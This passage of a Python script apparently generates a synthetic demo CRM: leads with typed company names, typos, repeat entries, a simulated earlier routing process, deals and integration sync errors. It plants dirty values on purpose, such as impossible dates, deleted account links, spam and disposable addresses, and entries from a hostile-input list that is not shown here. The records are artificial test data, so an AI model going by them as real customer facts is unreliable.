    return rows


# ---------------------------------------------------------------- leads


def draw_arrivals(world: World) -> list[Arrival]:
    """When leads come in: weekdays, office hours of their country, a conference at the end, imports."""
    dice = Dice("arrivals")
    imports = [START + timedelta(days=day, hours=hour, minutes=7) for day, hour in ((7, 13), (21, 8), (41, 16))]
    found = []
    for first, last, size in ((START, TAKEOVER, OLD_LEADS), (TAKEOVER, NOW, NEW_LEADS)):
        days = (last - first).days + 2
        day_weights = [(day, WEEKDAY_WEIGHTS[(first + timedelta(days=day)).weekday()]) for day in range(-1, days)]
        kept = 0
        while kept < size:
            country = dice.weighted(world.country_weights)
            minutes = dice.weighted(list(enumerate(HOUR_WEIGHTS))) * 60 + dice.below(60)
            offset = int(world.countries[country]["utc_offset_minutes"])
            if country == "US":
                offset = dice.weighted([(-240, 47), (-300, 29), (-360, 7), (-420, 17)])
            day = dice.weighted(day_weights)
            created = first + timedelta(days=day, minutes=minutes - offset, seconds=dice.below(60))
            event = 300 if first == TAKEOVER and created.day in (27, 28) else 70
            source = dice.weighted([("web", 330), ("paid_search", 150), ("content", 130), ("webinar", 90),
                                    ("event", event), ("referral", 60), ("chat", 60), ("partner", 12),
                                    ("list_import", 55), ("", 15)])  # fmt: skip
            if source == "list_import":
                batch = dice.pick(imports) if first == START else TAKEOVER + timedelta(hours=31, minutes=2)
                created = batch + timedelta(seconds=dice.below(4))
            if first <= created < last:
                found.append(Arrival(created, country, source))
                kept += 1
    return sorted(found)


def typed_company(world: World, dice: Dice, one: Organisation) -> str:
    """An organisation's name as somebody types it into a form."""
    name, words = one.name, words_of(one.name)
    variants = world.typed.get(one.source_id, []) if one.source == "stackalytics" else []
    if variants and dice.chance(600):
        return dice.pick(variants)
    form = dice.weighted([("exact", 34), ("no form", 17), ("lower", 9), ("typo", 11), ("short", 9), ("initials", 3),
                          ("form", 8), ("unit", 5), ("upper", 3), ("domain", 3), ("blank", 6)])  # fmt: skip
    if form == "no form":
        return " ".join(words)
    if form == "lower":
        return name.lower()
    if form == "upper":
        return name.upper()
    if form == "typo":
        return typo(dice, name)
    if form == "short":
        return words[0] if len(words[0]) > 3 else " ".join(words[:2])
    if form == "initials" and len(words) > 2:
        return "".join(word[0] for word in words).upper()
    if form == "form":
        return " ".join(words) + dice.pick((", Inc.", " Inc", " LLC", " Ltd", " Corp.", " Group", " GmbH", " Co."))
    if form == "unit":
        units = (" Europe", " IT", " - HQ", " Sales", " USA", " (Marketing)", " Asia Pacific")
        return " ".join(words) + dice.pick(units)
    if form == "domain" and one.domains:
        return one.domains[0]
    return "" if form == "blank" else name


def typo(dice: Dice, text: str) -> str:
    """The text with one slip: a letter left out, doubled, swapped or replaced."""
    if len(text) < 5:
        return text
    at = dice.between(1, len(text) - 3)
    slip = dice.below(4)
    if slip == 0:
        return text[:at] + text[at + 1 :]
    if slip == 1:
        return text[:at] + text[at] + text[at:]
    if slip == 2:
        return text[:at] + text[at + 1] + text[at] + text[at + 2 :]
    return text[:at] + dice.pick("aeioustnr") + text[at + 1 :]


def other_domain(dice: Dice, domain: str) -> str:
    """A domain that belongs to the same house but is not on the account."""
    stem = domain.split(".")[0] or "mail"
    return dice.pick((f"{dice.pick(('eu', 'us', 'mail', 'corp'))}.{domain}", f"{stem}group.com", f"{stem}-hq.com",
                      f"{stem}.io", f"get{stem}.com", f"{stem}.co"))  # fmt: skip


def mail_at(world: World, dice: Dice, person: Person, one: Organisation, at_domain: int, free: int) -> str:
    """A lead's address: at the organisation's domain, at a free provider, or somewhere else."""
    domain = one.domains[0] if one.domains else ascii_fold("".join(words_of(one.name)[:2])) + ".com"
    if domain in SHARED_HOSTS or len(domain) < 6:
        return person.private_mail
    at_work = at_domain if one.domains else 0
    place = dice.weighted([("work", at_work), ("free", free), ("other", 1000 - at_domain - free)])
    if place == "free":
        return person.private_mail
    return draw_mail(world, dice, person, domain if place == "work" else other_domain(dice, domain))


class LeadBuilder:
    """Draws leads one after the other, so that a lead can repeat an earlier one."""

    def __init__(self, world: World, accounts: list[Account], found: dict[str, list[Organisation]]) -> None:
        self.world = world
        self.dice = Dice("leads")
        self.leads: list[Lead] = []
        self.accounts = [one for one in accounts if one.row["is_deleted"] == "false"]
        self.customers = [one for one in self.accounts if one.row["account_type"] == "customer"]
        self.by_country: dict[str, list[Account]] = {}
        for account in self.accounts:
            self.by_country.setdefault(account.organisation.country, []).append(account)
        self.worldwide = [one for one in self.accounts if one.organisation.employees >= 3000]
        self.by_source_id = {
            one.organisation.source_id: one
            for one in reversed(self.accounts)
            if one.organisation.source == "stackalytics"
        }
        held = {id(one.organisation) for one in accounts}
        names = {clean_name(one.organisation.name) for one in accounts}
        domains = {domain for one in accounts for domain in one.organisation.domains}
        self.strangers: dict[str, list[Organisation]] = {}
        for source in ("crunchbase", "fdic", "university", "remote", "sec"):
            for one in found[source]:
                known = id(one) in held or clean_name(one.name) in names or domains.intersection(one.domains)
                if not known:
                    self.strangers.setdefault(one.country, []).append(one)
        self.hostile = 0

    def add(self, arrival: Arrival) -> Lead:
        """One more lead."""
        dice = self.dice
        if len(self.leads) > 150 and dice.chance(72):
            lead = self.repeat(arrival)
        else:
            kind = dice.weighted([("account", 590), ("stranger", 217), ("private", 130), ("odd", 63)])
            lead = getattr(self, f"from_{kind}")(arrival)
        self.finish(lead)
        self.leads.append(lead)
        return lead

    def pick_account(self, country: str) -> Account:
        """An account somebody of this country works for, customers more often."""
        if self.dice.chance(115):
            here = [one for one in self.customers if one.organisation.country == country]
            return self.dice.pick(here or self.customers)
        here = self.by_country.get(country, [])
        if not here or self.dice.chance(60 if country == "US" else 330):
            here = self.worldwide
        return self.dice.skewed(here)

    def from_account(self, arrival: Arrival) -> Lead:
        """Somebody who works for an organisation the CRM has as an account."""
        dice = self.dice
        if dice.chance(70):
            return self.from_recorded(arrival)
        account = self.pick_account(arrival.country)
        one = account.organisation
        person = draw_person(self.world, dice, arrival.country, one.state)
        mail = mail_at(self.world, dice, person, one, 570, 290)
        if account.contacts and dice.chance(90):
            person, mail = dice.pick(account.contacts)
        return self.lead(arrival, person, one, account, mail, typed_company(self.world, dice, one))

    def from_recorded(self, arrival: Arrival) -> Lead:
        """An employer and a mail domain that were really recorded together, or a typed employer."""
        dice = self.dice
        record = dice.pick(self.world.recorded)
        account = self.by_source_id.get(record["account_id"])
        person = draw_person(self.world, dice, arrival.country)
        mail = draw_mail(self.world, dice, person, record["email_domain"])
        return self.lead(arrival, person, account.organisation if account else None, account, mail,
                         record["company_as_recorded"])  # fmt: skip

    def from_stranger(self, arrival: Arrival) -> Lead:
        """Somebody of a real organisation that is no account."""
        dice = self.dice
        one = dice.pick(self.strangers.get(arrival.country) or self.strangers["US"])
        person = draw_person(self.world, dice, arrival.country, one.state)
        mail = mail_at(self.world, dice, person, one, 600, 260)
        return self.lead(arrival, person, one, None, mail, typed_company(self.world, dice, one))

    def from_private(self, arrival: Arrival) -> Lead:
        """Somebody with a free address and no employer, or none worth the name."""
        person = draw_person(self.world, self.dice, arrival.country)
        company = self.dice.pick(self.world.junk_companies) if self.dice.chance(620) else ""
        return self.lead(arrival, person, None, None, person.private_mail, company)

    def from_odd(self, arrival: Arrival) -> Lead:
        """Spam, disposable addresses, broken addresses, nothing at all."""
        dice, world = self.dice, self.world
        person = draw_person(world, dice, arrival.country)
        kind = dice.weighted([("spam", 30), ("disposable", 26), ("broken", 24), ("empty", 20)])
        mail = draw_mail(world, dice, person, dice.pick(DISPOSABLE))
        company = dice.pick(world.junk_companies)
        if kind == "broken":
            mail = dice.pick(JUNK_MAILS)
        elif kind == "empty":
            mail, company = "", ""
        elif kind == "spam":
            mail = draw_mail(world, dice, person, dice.pick(("gmail.com", "seo-agency.example", "casino.example")))
            company = dice.pick(("Best SEO", "Crypto Invest", "Digital Growth Agency", ""))
        lead = self.lead(arrival, person, None, None, mail, company)
        if kind == "spam":
            lead.row["message"] = dice.pick(SPAM)
        if kind == "empty" and dice.chance(500):
            lead.row["first_name"] = lead.row["last_name"] = lead.row["phone"] = ""
        return lead

    def repeat(self, arrival: Arrival) -> Lead:
        """An earlier person once more: the same address in another spelling, or the same phone and name."""
        dice = self.dice
        pool = self.leads[-900:] if dice.chance(600) else self.leads
        first = dice.pick([one for one in pool if "@" in one.row["email"]])
        person = first.person
        arrival = Arrival(arrival.created, person.country, arrival.source)
        phone_known = len(person.phone) > 6 and first.row["phone"] == person.phone
        if phone_known and dice.chance(300):
            mail = draw_mail(self.world, dice, person, dice.pick(("gmail.com", "outlook.com", "proton.me")))
        else:
            mail = self.respelled(first.row["email"])
        company = first.row["company"]
        if first.organisation and dice.chance(400):
            company = typed_company(self.world, dice, first.organisation)
        lead = self.lead(arrival, person, first.organisation, first.account, mail, company)
        if phone_known:
            lead.row["phone"] = person.phone
        if mail.split("@")[0] == first.row["email"].split("@")[0] and dice.chance(150):
            lead.row["first_name"] = person.nickname
        return lead

    def respelled(self, mail: str) -> str:
        """An address that reaches the same mailbox."""
        local, _, domain = mail.strip().partition("@")
        forms = ["same", "same", "upper", "title", "plus"]
        if domain.lower() == "gmail.com":
            forms += ["dot", "dot", "googlemail"]
        form = self.dice.pick(forms)
        if form == "upper":
            return mail.upper()
        if form == "title":
            return ".".join(part.capitalize() for part in local.split(".")) + "@" + domain
        if form == "plus":
            return f"{local}+{self.dice.pick(('demo', 'crm', 'news', 'work', '2026'))}@{domain}"
        if form == "dot" and len(local) > 3:
            at = self.dice.between(1, len(local) - 2)
            around = local[at - 1 : at + 1]
            return local.replace(".", "") + "@" + domain if "." in around else f"{local[:at]}.{local[at:]}@{domain}"
        return f"{local}@googlemail.com" if form == "googlemail" else mail

    def lead(self, arrival: Arrival, person: Person, organisation: Organisation | None,
             account: Account | None, mail: str, company: str) -> Lead:  # fmt: skip
        """The row of a lead, before owner and status."""
        dice, facts = self.dice, self.world.countries[arrival.country]
        place = draw_place(self.world, dice, arrival.country)
        if organisation and organisation.city and organisation.country == arrival.country:
            place = {key: getattr(organisation, key) for key in ("city", "state", "postal_code")}
        spellings = facts["spellings"].split("|")
        country = dice.pick(spellings[: (len(spellings) + 1) // 2] if dice.chance(750) else spellings)
        if dice.chance(95):
            country = dice.pick(JUNK_COUNTRIES) if dice.chance(90) else ""
        customer = account is not None and account.row["account_type"] == "customer"
        form = dice.weighted([("demo_request", 170), ("contact_sales", 130), ("pricing", 110), ("whitepaper", 200),
                              ("newsletter", 110), ("trial_signup", 170), ("support_request", 200 if customer else 12),
                              ("", 70)])  # fmt: skip
        if arrival.source in ("event", "list_import", "partner"):
            form = ""
        partner, source = "", arrival.source
        if arrival.country in PARTNERS and dice.chance(280):
            partner, source = PARTNERS[arrival.country], "partner"
        row = {
            "created_at": stamp(arrival.created),
            "email": mail,
            "first_name": "" if dice.chance(45) else person.first,
            "last_name": "" if dice.chance(25) else person.last,
            "phone": person.phone if dice.chance(800) else "",
            "company": company,
            "website": self.website(organisation),
            "job_title": self.job_title(arrival.country),
            "country": country,
            "state": self.state(arrival.country, place["state"]),
            "city": place["city"] if dice.chance(600) else "",
            "postal_code": place["postal_code"] if dice.chance(360) else "",
            "product_interest": dice.weighted([("routing", 30), ("enrichment", 16), ("analytics", 16), ("platform", 12),
                                               ("", 24), ("Routing", 1), ("platform;analytics", 1)]),
            "lead_source": source,
            "form_name": form,
            "message": dice.pick(MESSAGES) if form and dice.chance(150) else "",
            "consent_status": dice.weighted([("opted_in", 380), ("unknown", 330), ("", 250), ("opted_out", 40)]),
            "language": dice.weighted([(facts["language"], 62), ("en", 18), ("", 17), (facts["language"].upper(), 2),
                                       (f"{facts['language']}-{arrival.country}", 1)]),
            "partner_id": partner,
            "status": "new",
            "is_deleted": "true" if dice.chance(10) else "false",
        }  # fmt: skip
        employees = organisation.employees if organisation else dice.pick((0, 0, 0, 1, 5, 40, 300))
        row["employee_count"] = head_count(dice, employees, False) if employees and dice.chance(620) else ""
        row["annual_revenue"] = money(dice, employees) if employees and dice.chance(180) else ""
        row["industry"] = (organisation.industry if organisation else "") if dice.chance(420) else ""
        row["lifecycle_stage"] = self.lifecycle(form, customer)
        return Lead(row, arrival.created, person, organisation, account, last_touch=arrival.created)

    def lifecycle(self, form: str, customer: bool) -> str:
        """The stage marketing believes a lead is in."""
        if customer and self.dice.chance(600):
            return self.dice.weighted([("customer", 50), ("expansion", 13), ("renewal_risk", 14), ("complaint", 8),
                                       ("churned", 15)])  # fmt: skip
        if form == "newsletter":
            return self.dice.pick(("subscriber", "subscriber", ""))
        return self.dice.weighted([("lead", 48), ("mql", 17), ("sql", 6), ("subscriber", 8), ("", 20), ("churned", 1)])

    def website(self, one: Organisation | None) -> str:
        """A website as typed."""
        if self.dice.chance(12):
            return self.dice.pick(JUNK_SITES)
        return spelled_website(self.dice, one.domains[0]) if one and one.domains and self.dice.chance(260) else ""

    def job_title(self, country: str) -> str:
        """A job title, some of them in the language of the country."""
        dice = self.dice
        if country in LOCAL_TITLES and dice.chance(300):
            return dice.pick(LOCAL_TITLES[country])
        title = dice.weighted([("", 19), ("buyer", 47), ("reported", 34)])
        title = dice.pick(BUYER_TITLES) if title == "buyer" else dice.pick(self.world.titles) if title else ""
        return title.lower() if dice.chance(60) else title

    def state(self, country: str, state: str) -> str:
        """A state as typed: code or name where there are both, junk now and then."""
        known = self.world.states.get((country, state))
        if self.dice.chance(8):
            return self.dice.pick(("N/A", "-", "Other", "XX"))
        if known is None:
            return state if self.dice.chance(450) else ""
        form = self.dice.weighted([("code", 50), ("name", 28), ("lower", 5), ("", 17)])
        return {"code": known["code"], "name": known["name"], "lower": known["code"].lower(), "": ""}[form]

    def finish(self, lead: Lead) -> None:
        """Slips of the keyboard, hostile input, accounts linked by the CRM."""
        dice, row = self.dice, lead.row
        slip = dice.below(1000)
        if slip < 12:
            row["email"] = row["email"] + " "
        elif slip < 30:
            row["email"] = row["email"].upper()
        if 40 <= slip < 52:
            row["company"] = "  " + row["company"]
        if 60 <= slip < 69:
            name, text = HOSTILE[self.hostile % len(HOSTILE)]
            row[name] = text
            self.hostile += 1
        if lead.account and dice.chance(55):
            row["account_id"] = lead.account.row["account_id"]


# ---------------------------------------------------------------- what the earlier process did


def add_work_minutes(start: datetime, minutes: int, offset: int) -> datetime:
    """So many minutes later on a clock that runs Monday to Friday, 9 to 17 local time."""
    local = start + timedelta(minutes=offset)
    while True:
        opening = local.replace(hour=9, minute=0, second=0)
        closing = local.replace(hour=17, minute=0, second=0)
        if local.weekday() >= 5 or local >= closing:
            local = opening + timedelta(days=1)
            continue
        local = max(local, opening)
        left = int((closing - local).total_seconds()) // 60
        if minutes < left:
            return local + timedelta(minutes=minutes) - timedelta(minutes=offset)
        minutes -= left
        local = opening + timedelta(days=1)


class EarlierProcess:
    """Owners, history, activities and outcomes of the leads that came before the takeover."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.dice = Dice("earlier process")
        self.history: list[Row] = []
        self.activities: list[tuple[datetime, Row]] = []

    def handle(self, lead: Lead) -> None:
        """What happened to one lead."""
        self.inbound(lead)
        if lead.created >= TAKEOVER:
            if self.dice.chance(110):
                lead.row["owner_id"] = "integration-user"
                if self.dice.chance(500):
                    self.log(lead, "owner_id", "", "integration-user", lead.created, "integration-user")
            return
        if self.dice.chance(70):
            lead.row["status"] = self.dice.weighted([("new", 85), ("closed", 10), ("unqualified", 5)])
            return
        self.assign(lead)
        self.respond(lead)
        self.conclude(lead)

    def inbound(self, lead: Lead) -> None:
        """Visits and forms around the creation of a lead."""
        form = lead.row["form_name"]
        recent = lead.created >= TAKEOVER
        if form and self.dice.chance(720 if recent else 420):
            self.act(lead, "", "form_submit", "inbound", lead.created)
        views = self.dice.weighted([(0, 45), (1, 25), (2, 15), (3, 8), (5, 5), (9, 2)]) if form else 0
        for _ in range(views if recent else (views + 1) // 2):
            self.act(lead, "", "page_view", "inbound", lead.created - timedelta(seconds=self.dice.between(20, 9000)))
        if recent and self.dice.chance(120):
            self.act(lead, "", "page_view", "inbound", lead.created + timedelta(minutes=self.dice.between(5, 2000)))

    def assign(self, lead: Lead) -> None:
        """Give a lead to somebody, soon or late, and sometimes to somebody else afterwards."""
        dice = self.dice
        delay = dice.weighted([(dice.between(1, 30), 46), (dice.between(30, 240), 30), (dice.between(240, 1440), 17),
                               (dice.between(1440, 7200), 7)])  # fmt: skip
        latest = NOW - timedelta(minutes=dice.between(5, 900))
        assigned = min(lead.created + timedelta(minutes=delay, seconds=dice.below(60)), latest)
        lead.assigned = assigned
        owner = self.pick_owner(lead, assigned)
        before = "integration-user" if dice.chance(250) and owner != "integration-user" else ""
        by = dice.weighted([("assignment-rules", 80), ("ops-admin", 14), ("integration-user", 6)])
        if not dice.chance(20):
            self.log(lead, "owner_id", before, owner, assigned, by)
        if dice.chance(70):
            other = self.pick_owner(lead, assigned)
            moved = assigned + timedelta(minutes=dice.between(60, 9000))
            if other != owner and moved < NOW:
                self.log(lead, "owner_id", owner, other, moved, dice.pick(("ops-admin", owner)))
                owner = other
        lead.row["owner_id"] = owner

    def pick_owner(self, lead: Lead, at: datetime) -> str:
        """The owner the earlier process would choose: account owner, success team, development, region."""
        dice, account = self.dice, lead.account
        if dice.chance(43):
            return dice.weighted([("integration-user", 60), (dice.pick(DEPARTED), 40)])
        if dice.chance(8):
            return "amer-com-10"
        team = ""
        if account and account.row["account_type"] == "customer" and dice.chance(500):
            team = "customer_success"
        elif account and dice.chance(450):
            at_work = [one.owner_id for one in self.world.owners if one.active_from <= at < one.active_to]
            if account.row["owner_id"] in at_work:
                return account.row["owner_id"]
        elif lead.row["form_name"] in ("newsletter", "whitepaper", "trial_signup") and dice.chance(450):
            team = "inbound_development"
        if team:
            return dice.pick(self.world.team(team, at)).owner_id
        employees = lead.organisation.employees if lead.organisation else 0
        return owner_for(self.world, dice, lead.person.country, employees, at)

    def respond(self, lead: Lead) -> None:
        """First response and what followed, by the owner's office hours."""
        dice, owner = self.dice, lead.row["owner_id"]
        if lead.assigned is None:
            return
        if dice.chance(260):
            self.act(lead, owner, "automatic_email", "outbound", lead.created + timedelta(minutes=dice.between(1, 9)))
        if owner in ("amer-com-10", "integration-user", *DEPARTED) and dice.chance(800):
            return
        first, last = dice.weighted([((4, 90), 40), ((90, 480), 32), ((480, 2400), 16), ((0, 0), 12)])
        if not last:
            return
        wait = dice.between(first, last)
        offset = self.world.offset(owner)
        moment = add_work_minutes(lead.assigned, wait, offset)
        follow_ups = dice.weighted([(0, 66), (1, 19), (2, 9), (3, 6)])
        for number in range(1 + follow_ups):
            kind = dice.weighted([("call", 45), ("email", 50), ("meeting", 5 if number else 1)])
            if not self.act(lead, owner, kind, "outbound", moment):
                return
            if dice.chance(110):
                answer = moment + timedelta(minutes=dice.between(10, 1500))
                self.act(lead, "", dice.pick(("email", "email", "call")), "inbound", answer)
            moment = add_work_minutes(moment, dice.between(120, 2600), offset)

    def conclude(self, lead: Lead) -> None:
        """Status and conversion of a lead somebody owned."""
        dice, owner = self.dice, lead.row["owner_id"]
        status = dice.weighted([("new", 20), ("working", 32), ("qualified", 10), ("unqualified", 21), ("closed", 8),
                                ("converted", 9)])  # fmt: skip
        moment = add_work_minutes(lead.last_touch, dice.between(60, 2800), self.world.offset(owner))
        if moment >= NOW - timedelta(hours=1):
            status = "new" if lead.last_touch == lead.created else "working"
        lead.row["status"] = status
        if status == "converted":
            lead.row["converted_at"] = stamp(moment)
            if lead.account and dice.chance(550):
                lead.row["account_id"] = lead.account.row["account_id"]
        if status == "converted" or (status == "qualified" and dice.chance(250)):
            self.log(lead, "status", dice.pick(("new", "working", "working")), status, moment, owner)

    def act(self, lead: Lead, owner: str, kind: str, direction: str, moment: datetime) -> bool:
        """Record an activity unless it lies after the export."""
        moment += timedelta(seconds=self.dice.below(40)) if direction == "outbound" else timedelta()
        if moment >= NOW:
            return False
        row = {"lead_id": lead.row["lead_id"], "owner_id": owner, "activity_type": kind, "direction": direction,
               "occurred_at": stamp(moment)}  # fmt: skip
        self.activities.append((moment, row))
        lead.last_touch = max(lead.last_touch, moment)
        return True

    def log(self, lead: Lead, name: str, old: str, new: str, moment: datetime, by: str) -> None:
        """Record a change of a field."""
        self.history.append({"lead_id": lead.row["lead_id"], "field": name, "old_value": old, "new_value": new,
                             "changed_at": stamp(moment), "changed_by": by})  # fmt: skip
        lead.last_touch = max(lead.last_touch, moment)

    def dirty_activities(self, leads: list[Lead]) -> None:
        """Responses before the lead existed, and activities of leads nobody knows."""
        owned = [one for one in leads if one.assigned and one.row["lead_id"]]
        for lead in self.dice.sample(owned, 15):
            early = lead.created - timedelta(minutes=self.dice.between(3, 3000))
            self.act(lead, lead.row["owner_id"], self.dice.pick(("call", "email")), "outbound", early)
        for number in range(8):
            ghost = Lead({"lead_id": f"L-9{number:05d}"}, START, leads[0].person, None, None)
            self.act(ghost, "", "page_view", "inbound", START + timedelta(hours=self.dice.below(1300)))

    def activity_rows(self) -> list[Row]:
        """Activities in the order they happened."""
        self.activities.sort(key=lambda item: item[0])
        for number, (_, row) in enumerate(self.activities, start=1):
            row["activity_id"] = f"T-{number:06d}"
        return [row for _, row in self.activities]


# ---------------------------------------------------------------- the last touches


def add_preferences(leads: list[Lead]) -> None:
    """How people want to be reached, and how they don't; whoever opted out of everything opted out of mail too."""
    dice = Dice("preferences")
    for lead in leads:
        opted_out = lead.row["consent_status"] == "opted_out"
        for column, per_thousand in (("do_not_call", 45), ("has_opted_out_of_email", 70), ("has_opted_out_of_sms", 20)):
            refuses = dice.chance(per_thousand) or (opted_out and column == "has_opted_out_of_email")
            lead.row[column] = "true" if refuses else dice.weighted([("false", 80), ("", 20)])
        lead.row["preferred_channel"] = dice.weighted([("", 88), ("Email", 7), ("Phone", 4), ("SMS", 1)])


def other_date(dice: Dice, moment: datetime) -> str:
    """A readable timestamp in another spelling."""
    form = dice.below(4)
    if form == 0:
        return moment.strftime("%Y-%m-%dT%H:%M:%SZ")
    if form == 1:
        return (moment + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S+02:00")
    if form == 2:
        return moment.strftime("%Y-%m-%d")
    hour = moment.hour % 12 or 12
    return f"{moment.month}/{moment.day}/{moment.year} {hour}:{moment.minute:02d} {'PM' if moment.hour >= 12 else 'AM'}"


def dirty_leads(leads: list[Lead], accounts: list[Account]) -> list[Row]:
    """The lead rows of the export, with the rows that must be caught before routing."""
    dice = Dice("dirt")
    old = [one for one in leads if one.created < TAKEOVER and one.row["lead_id"]]
    new = [one for one in leads if one.created >= TAKEOVER and one.row["lead_id"]]
    for lead in leads:
        lead.row["updated_at"] = stamp(lead.last_touch)
        if dice.chance(30):
            lead.row["created_at"] = other_date(dice, lead.created)
    victims = iter(dice.shuffled(old)[:20] + dice.shuffled(new)[:20])
    for text in ("31/31/2026", "yesterday", "", "2026-13-01 10:00:00", "0000-00-00 00:00:00", "n/a"):
        next(victims).row["created_at"] = text
    for text in ("2062-10-12 09:00:00", "2027-01-04 08:30:00", "2026-12-24 18:00:00"):
        next(victims).row["created_at"] = text
    deleted = [one.row["account_id"] for one in accounts if one.row["is_deleted"] == "true"]
    for number in range(11):
        next(victims).row["account_id"] = deleted[number] if number < 6 else f"A-9{number:04d}"
    for text in ("yesterday", "", "31/31/2026", "10-29 around noon"):
        next(victims).row["created_at"] = text
    for text in ("2026-10-30 21:14:05", "2026-10-31 09:00:00", "2026-11-30 15:20:00", "2036-10-29 11:11:11",
                 "2026-11-01T00:00:00Z"):  # fmt: skip
        next(victims).row["created_at"] = text
    for number in range(11):
        next(victims).row["account_id"] = deleted[number + 6] if number < 7 else f"A-9{number:04d}"
    copies = {id(one): dict(one.row) for one in dice.sample(old, 7) + dice.sample(new, 5)}
    for number, copy in enumerate(copies.values()):
        if number % 3 == 1:
            copy["phone"] = copy["message"] = ""
            copy["updated_at"] = stamp(NOW - timedelta(hours=number + 1))
        elif number % 3 == 2:
            copy["email"] = f"someone.else{number}@example.com"
    rows = []
    for lead in leads:
        rows.append(lead.row)
        if id(lead) in copies:
            rows.append(copies[id(lead)])
    return rows


def build_opportunities(world: World, accounts: list[Account], leads: list[Lead]) -> list[Row]:
    """Deals: of converted leads, of customers, and on prospects."""
    dice = Dice("opportunities")
    by_id = {one.row["account_id"]: one for one in accounts}
    converted = [one for one in leads if one.row.get("converted_at") and one.row["lead_id"] and one.account]
    customers = [one for one in accounts if one.row["account_type"] == "customer"]
    prospects = [one for one in accounts if one.row["account_type"] == "prospect"]
    drafts: list[tuple[datetime, Row]] = []
    for lead in dice.sample(converted, min(len(converted), 230)):
        created = datetime.fromisoformat(lead.row["converted_at"])
        account_id = lead.row.get("account_id") or lead.account.row["account_id"] if lead.account else ""
        drafts.append((created, {"account_id": account_id, "lead_id": lead.row["lead_id"],
                                 "owner_id": lead.row["owner_id"]}))  # fmt: skip
    while len(drafts) < OPPORTUNITIES:
        account = dice.pick(customers) if dice.chance(560) else dice.pick(prospects)
        created = datetime(2025, 3, 3, 9) + timedelta(minutes=dice.below(590 * 1440))
        owner = account.row["owner_id"] or "amer-com-01"
        drafts.append((created, {"account_id": account.row["account_id"], "lead_id": "", "owner_id": owner}))
    drafts.sort(key=lambda item: item[0])
    rows = []
    for number, (created, row) in enumerate(drafts, start=1):
        holder = by_id.get(row["account_id"])
        customer = holder is not None and holder.row["account_type"] == "customer"
        closed = created + timedelta(days=dice.between(6, 140), minutes=dice.below(480))
        is_closed = closed < NOW and not dice.chance(120)
        won = is_closed and dice.chance(780 if customer else 0 if not row["lead_id"] else 150)
        stage = dice.pick(("qualification", "discovery", "proposal", "negotiation"))
        if is_closed:
            stage = "closed_won" if won else "closed_lost"
        row.update(
            opportunity_id=f"O-{number:05d}",
            stage=stage,
            is_closed="true" if is_closed else "false",
            is_won="true" if won else "false",
            amount="" if dice.chance(60) else str(dice.between(4, 900) * 500),
            created_at=stamp(created),
            closed_at=stamp(closed) if is_closed else "",
        )
        rows.append(row)
    return rows


def build_sync_results(leads: list[Lead]) -> list[Row]:
    """What an earlier integration tried to write into the CRM."""
    dice = Dice("sync results")
    errors = (
        "INACTIVE_OWNER_OR_USER: owner is inactive", "ENTITY_IS_DELETED: entity is deleted",
        "UNABLE_TO_LOCK_ROW: unable to obtain exclusive access to this record",
        "UNABLE_TO_LOCK_ROW: unable to obtain exclusive access to this record",
        "FIELD_CUSTOM_VALIDATION_EXCEPTION: Country is required",
        "REQUEST_LIMIT_EXCEEDED: TotalRequests Limit exceeded.",
    )  # fmt: skip
    owned = [one for one in leads if one.assigned and one.row["lead_id"] and one.assigned < datetime(2026, 10, 20)]
    rows: list[tuple[datetime, Row]] = []
    for number, lead in enumerate(dice.sample(owned, 17)):
        moment = (lead.assigned or lead.created) + timedelta(minutes=dice.between(1, 15))
        attempts = [errors[number // 3] if number % 3 == 0 else ""]
        if attempts[0].startswith(("UNABLE", "REQUEST")):
            attempts.append("")
        for error in attempts:
            rows.append((moment, {
                "lead_id": lead.row["lead_id"],
                "assignment_id": f"legacy-{lead.row['lead_id'][2:]}",
                "operation": "update_owner",
                "status": "failed" if error else "succeeded",
                "error_message": error,
                "sync_run_id": "legacy-" + moment.strftime("%Y%m%d-%H"),
                "attempted_at": stamp(moment),
            }))  # fmt: skip
            moment += timedelta(hours=1)
    rows.sort(key=lambda item: item[0])
    return [row for _, row in rows]


def build(folder: Path) -> None:
    """Write the seven seeds."""
    world = World()
    found = read_organisations(world)
    accounts = build_accounts(world, found)
    contacts = build_contacts(world, accounts)
    builder = LeadBuilder(world, accounts, found)
    leads = [builder.add(arrival) for arrival in draw_arrivals(world)]
    add_preferences(leads)
    dice = Dice("identifiers")
    nameless = {id(one) for one in dice.sample(leads[:OLD_LEADS], 4) + dice.sample(leads[OLD_LEADS:], 3)}
    for number, lead in enumerate(leads, start=1):
        lead.row["lead_id"] = "" if id(lead) in nameless else f"L-{number:06d}"
    process = EarlierProcess(world)
    for lead in leads:
        if lead.row["lead_id"]:
            process.handle(lead)
    process.dirty_activities(leads)
    process.history.sort(key=lambda row: row["changed_at"])

    folder.mkdir(parents=True, exist_ok=True)
    write_rows(folder, "demo_opportunities", build_opportunities(world, accounts, leads))
    write_rows(folder, "demo_sync_results", build_sync_results(leads))
    write_rows(folder, "demo_leads", dirty_leads(leads, accounts))
    write_rows(folder, "demo_accounts", [one.row for one in accounts])
    write_rows(folder, "demo_contacts", contacts)
    write_rows(folder, "demo_activities", process.activity_rows())
    write_rows(folder, "demo_lead_history", process.history)


def main() -> int:
    """Command line."""
    parser = argparse.ArgumentParser(description="Write the demo CRM.")
    parser.add_argument("--out", type=Path, default=ROOT / "seeds" / "demo", help="folder of the CSV files")
    build(parser.parse_args().out)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
